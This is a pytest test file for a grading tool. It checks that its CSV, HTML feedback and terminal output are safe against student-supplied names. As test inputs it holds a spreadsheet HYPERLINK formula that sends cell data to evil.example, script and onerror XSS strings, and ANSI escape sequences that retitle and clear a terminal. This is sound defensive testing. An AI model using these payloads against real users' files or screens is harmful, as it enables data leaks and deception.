"""Is class-grades.csv safe to open in a spreadsheet, with each student's name as submitted, and is the feedback
HTML escaped?"""

from __future__ import annotations

import csv
import json
import os
import unicodedata
from pathlib import Path

import pytest

from grader.grading.intake import collect
from grader.grading.names import shown
from grader.grading.records import ExerciseResult, JobResult
from grader.grading.report import print_summary, write_csv, write_feedback
from grader.grading.roster import Roster, load_roster, save_roster
from grader.grading.submissions import Submission
from grader.grading.workspace import state_dir


def _result(student: str, points: float = 0.5, review: list[str] | None = None) -> JobResult:
    exercises = [ExerciseResult("a_test", 1.0, points, "auto")]
    return JobResult(student, "01_term", "01_term", "fp", exercises, review or [])


def _enrol(workspace: Path, subs: list[Submission]) -> None:
    """Intake's roster for `subs`, as a run of `bpcourse grade` keeps it in the workspace."""
    roster = Roster()
    for sub in subs:
        sub.key = sub.key or f"flat:{sub.student}"
    roster.assign(subs)
    save_roster(state_dir(workspace), roster)


def _rows(workspace: Path) -> list[dict[str, str]]:
    with (workspace / "class-grades.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_are_neutralised(tmp_path: Path, start: str) -> None:
    """Does every text cell (student, submitted name, status) that starts with `=`, `+`, `-`, `@`, tab or CR get a
    leading `'`, while scores stay plain numbers?"""
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    sub = Submission(f"{start}cmd", "01_term", tmp_path / "x.ipynb", submitted_as=name)
    _enrol(tmp_path, [sub])
    roster = load_roster(state_dir(tmp_path))
    roster.people[sub.key].review.append(f"{start}odd")
    save_roster(state_dir(tmp_path), roster)
    write_csv(tmp_path, [_result(f"{start}cmd", 0.5, review=["x"])])
    (row,) = _rows(tmp_path)
    for cell in (row["student"], row["submitted_as"]):  # a quote first, or the tab / CR escaped as text
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.endswith(name[1:] if "HY" in cell else "cmd")
    assert row["student"] in (f"'{start}cmd", f"\\x{ord(start):02x}cmd")
    assert row["status"].startswith("needs review: ") and shown(f"{start}odd") in row["status"]
    assert (row["a_test"], row["total"], row["max"]) == ("0.5", "0.5", "1")


def test_control_characters_in_a_name_are_escaped(tmp_path: Path) -> None:
    """Is a newline in a submitted name escaped (one line per row), so no second line can start a formula?"""
    sub = Submission("amy", "01_term", tmp_path / "x.ipynb", submitted_as="amy\n=1+1")
    _enrol(tmp_path, [sub])
    write_csv(tmp_path, [_result("amy", 1.0)])
    (row,) = _rows(tmp_path)
    assert row["submitted_as"] == "amy\\x0a=1+1" and row["status"] == "ok"


def test_intake_to_csv(tmp_path: Path) -> None:
    """From a folder named `=HYPERLINK(...)` and a collision to the CSV: is the name kept beside the id, quoted
    safely, and is the collision in both students' status?"""
    subs = tmp_path / "subs"
    for folder in ('=HYPERLINK("evil.example","x")', "ann lee", "ann-lee"):
        path = subs / folder / "01_term" / "01_term.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    found = collect(subs, ["01_term"], {("01_term", "01_term"): {"a_test"}}, state=state_dir(tmp_path)).found
    write_csv(tmp_path, [_result(s.student) for s in found])
    rows = {row["student"]: row for row in _rows(tmp_path)}
    assert rows["HYPERLINK-evil.example-x"]["submitted_as"] == """'=HYPERLINK("evil.example","x")"""
    ann = [row for student, row in rows.items() if student.startswith("ann-lee-")]
    assert len(ann) == 2 and all("kept apart" in row["status"] for row in ann)
    assert {row["submitted_as"] for row in ann} == {"ann lee", "ann-lee"}


def test_feedback_html_is_escaped(tmp_path: Path) -> None:
    """Does a `<script>` in a student's name or a review reason reach the feedback page only escaped?"""
    result = JobResult("<script>alert(1)</script>", "?", "nb", "fp", review=["<script>alert(2)</script>"])
    result.exercises.append(ExerciseResult("<b>x</b>", 1.0, 0.0, "auto", cause="<img src=x onerror=alert(3)>"))
    page = write_feedback(tmp_path, result).read_text(encoding="utf-8")
    assert "<script>" not in page and "<img" not in page and "<b>x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;script&gt;alert(2)" in page


# ------------------------------------------------------------------ names and lateness reach people safely (issue 28)


def test_cp949_file_name_reaches_the_csv_as_valid_text(tmp_path: Path) -> None:
    """Issue 28 case 6: a file name in CP949 (bytes that are not UTF-8) beside a classmate: is the CSV written whole
    (both rows, valid UTF-8), the name flagged, on this run and the next?"""
    subs = tmp_path / "subs"
    subs.mkdir()
    for raw in ("김철수".encode("cp949") + b"__01_term.ipynb", b"amy__01_term.ipynb"):
        Path(os.fsdecode(bytes(subs) + b"/" + raw)).write_text("{}")
    for _ in range(2):
        found = collect(subs, ["01_term"], {("01_term", "01_term"): {"a_test"}}, state=state_dir(tmp_path)).found
        write_csv(tmp_path, [_result(s.student) for s in found])
        rows = _rows(tmp_path)
        assert len(rows) == 2 and (tmp_path / "class-grades.csv").read_bytes().decode("utf-8")
        (korean,) = (row for row in rows if row["student"] != "amy")
        assert "undecodable bytes" in korean["status"] and "\ufffd" in korean["submitted_as"]


def test_escape_sequences_in_a_file_name_never_reach_the_terminal(tmp_path: Path) -> None:
    """Issue 28 case 9: a file name carrying `ESC]0;...BEL ESC[2J ESC[H` (retitle, clear the screen, home): does
    the printed summary (and the intake lines, the CSV, the feedback) hold no escape or bell character?"""
    import io

    from grader.grading.grade import GradeSummary
    from grader.grading.intake import print_intake, write_intake_report
    from grader.grading.journal import problem_result

    subs = tmp_path / "subs"
    subs.mkdir()
    evil = "\x1b]0;pwned\x07\x1b[2J\x1b[Hgrades OK\x1b[8m"
    (subs / f"{evil}__01_term.ipynb").write_text("{not json")
    (subs / "amy__01_term.ipynb").write_text("{}")
    (subs / f"{evil}.pdf").write_text("%PDF")
    intake = collect(subs, ["01_term", "02_x"], {}, state=state_dir(tmp_path))
    results = [problem_result(s, tmp_path, "fp") for s in intake.found if s.assignment is None]
    out = io.StringIO()
    print_summary(GradeSummary(results, write_csv(tmp_path, results), 0.1, 0, 0, 1), out)
    print_intake(intake, write_intake_report(tmp_path, intake), out)
    pages = [write_feedback(tmp_path, r).read_text(encoding="utf-8") for r in results]
    for text in (out.getvalue(), (tmp_path / "class-grades.csv").read_text(), *pages,
                 (tmp_path / "intake-report.csv").read_text()):
        assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;pwned\\x07" in out.getvalue()  # shown, escaped, so the instructor sees the attempt


def test_csv_has_submitted_at_and_late_by_and_feedback_says_late(tmp_path: Path) -> None:
    """Issue 21 item 6: a late Canvas file alone, an on-time one: do the CSV's `submitted_at` and `late_by` say
    so, and does the late student's feedback say Late?"""
    from datetime import datetime, timezone

    subs = tmp_path / "subs"
    subs.mkdir()
    for name, when in (("doejane_LATE_12345_999_01_term.ipynb", 1_796_000_000), ("roe_678_1000_01_term.ipynb", 0)):
        (subs / name).write_text("{}")
        os.utime(subs / name, (when, when))
    due = {"01_term": datetime.fromtimestamp(1_795_990_000, timezone.utc)}
    found = collect(subs, ["01_term"], {("01_term", "01_term"): set()}, state=state_dir(tmp_path), dues=due).found
    results = [_result(s.student) for s in found]
    write_csv(tmp_path, results)
    rows = {row["student"]: row for row in _rows(tmp_path)}
    assert rows["doejane"]["late_by"] == "2 h 47 min" and rows["doejane"]["submitted_at"].startswith("2026-")
    assert rows["roe"]["late_by"] == "" and rows["roe"]["submitted_at"].startswith("1970-")
    late_page = write_feedback(tmp_path, results[0]).read_text(encoding="utf-8")
    assert "<b>Late</b>" in late_page and "2 h 47 min after the due date" in late_page
    assert "Late" not in write_feedback(tmp_path, results[1]).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "name",
    ["\x9b2J\x9b1;1H", "\u202eexe.ipynb", "a\u2028b", "e\u0301", "\udcb1\udce8", "\ud800x", "x" * 500],
)
def test_shown_is_printable_valid_and_short(name: str) -> None:
    """Is every rendering of a student-supplied name free of C1 controls (a one-byte CSI), bidi overrides, line
    separators and surrogates, NFC, and at most 120 characters?"""
    text = shown(name)
    text.encode("utf-8")  # raises on a surrogate
    assert not any(c in text for c in "\x9b\u202e\u2028") and len(text) <= 120
    assert text == unicodedata.normalize("NFC", text)


def test_the_csv_takes_every_hand_score_from_the_gradebook(tmp_path: Path, monkeypatch) -> None:
    """Issue 29 item 3: does a formgrader override of a code cell's score reach the CSV (it did not: only written
    answers were read), a hand-scored written answer end "awaiting manual grading", and an unanswered written answer
    (nothing to grade) count 0 instead of awaiting a person forever?"""
    from grader.grading import report

    graded = JobResult("amy", "01_term", "01_term", "fp", [
        ExerciseResult("a_test", 2.0, 0.0, "auto"),
        ExerciseResult("essay", 3.0, None, "manual", cause="awaiting manual grading"),
    ])
    empty = JobResult("bob", "01_term", "01_term", "fp", [
        ExerciseResult("a_test", 2.0, 0.0, "auto"),
        ExerciseResult("essay", 3.0, None, "manual", cause="not answered yet (the cell still says YOUR ANSWER HERE)"),
    ])
    monkeypatch.setattr(report, "_manual_scores", lambda workspace: {
        ("amy", "01_term", "a_test"): 1.5,  # an override of the autograded 0
        ("amy", "01_term", "essay"): 2.5,
    })
    write_csv(tmp_path, [graded, empty])
    rows = {row["student"]: row for row in _rows(tmp_path)}
    assert (rows["amy"]["a_test"], rows["amy"]["essay"], rows["amy"]["total"]) == ("1.5", "2.5", "4")
    assert rows["amy"]["status"] == "ok"
    assert (rows["bob"]["essay"], rows["bob"]["total"], rows["bob"]["status"]) == ("0", "0", "ok")
